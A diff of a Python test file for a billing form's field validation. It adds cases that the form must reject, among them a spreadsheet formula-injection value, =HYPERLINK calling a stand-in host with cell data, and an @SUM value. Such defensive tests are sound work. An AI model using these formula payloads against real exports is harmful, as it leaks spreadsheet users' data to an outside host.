@@ -197,7 +197,16 @@ async def test_a_business_gets_a_b2b_invoice_and_the_b2c_one_is_credited(
         ({"name": ""}, "Please fill this in."),
         ({"name": "x" * 101}, "This is too long."),
         ({"address": "x" * 201}, "This is too long."),
-        ({"name": "Acme\x07Fleet"}, "This has characters that cannot be printed."),
+        ({"name": "Acme\x07Fleet"}, "This has characters that cannot be printed, or"),
+        # A spreadsheet would run these as formulas once the export's CSV is opened.
+        (
+            {"name": '=HYPERLINK("http://x.example/?"&A1,"Acme")'},
+            "This has characters that cannot be printed, or starts with =",
+        ),
+        ({"address": "@SUM(A1)"}, "This has characters that cannot be printed, or starts with ="),
+        # Rule 46(d): the address is required, and a name must name someone.
+        ({"address": ""}, "Please fill this in."),
+        ({"name": "\u200d\u200c"}, "Please fill this in."),
     ],
 )
 async def test_a_bad_field_is_shown_on_the_form_and_issues_nothing(
